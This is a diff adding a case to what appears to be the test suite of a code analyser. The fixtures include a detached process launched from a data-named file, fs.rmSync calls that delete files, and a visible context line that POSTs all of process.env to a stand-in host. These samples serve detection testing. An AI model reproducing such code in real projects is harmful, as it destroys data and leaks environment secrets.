@@ -131,6 +131,15 @@ const CASES: readonly {
     says: ['import fs.rmSync(a)'],
   },
   {
+    when: 'a file is started that data names, with the words that it has',
+    files: {
+      'index.js': `const cp = require('child_process'), path = require('path'), { file } = require('./plan.json'); cp.spawn(process.execPath, [path.join(__dirname, file)], { detached: true });`,
+      'plan.json': { file: 'lib/work.js' },
+      'lib/work.js': `require('fs').rmSync('a'); require.main === module && require('fs').rmSync('b');`,
+    },
+    says: ['import child_process.spawn(<node>, [<here>/lib/work.js], {detached: true})', 'import fs.rmSync(a)', 'import fs.rmSync(b)'],
+  },
+  {
     when: 'the environment is spread out beside what somebody passes',
     files: {
       'index.js': `exports.send = more => fetch('https://a.invalid/', { method: 'POST', body: JSON.stringify({ ...process.env, ...more }) });`,
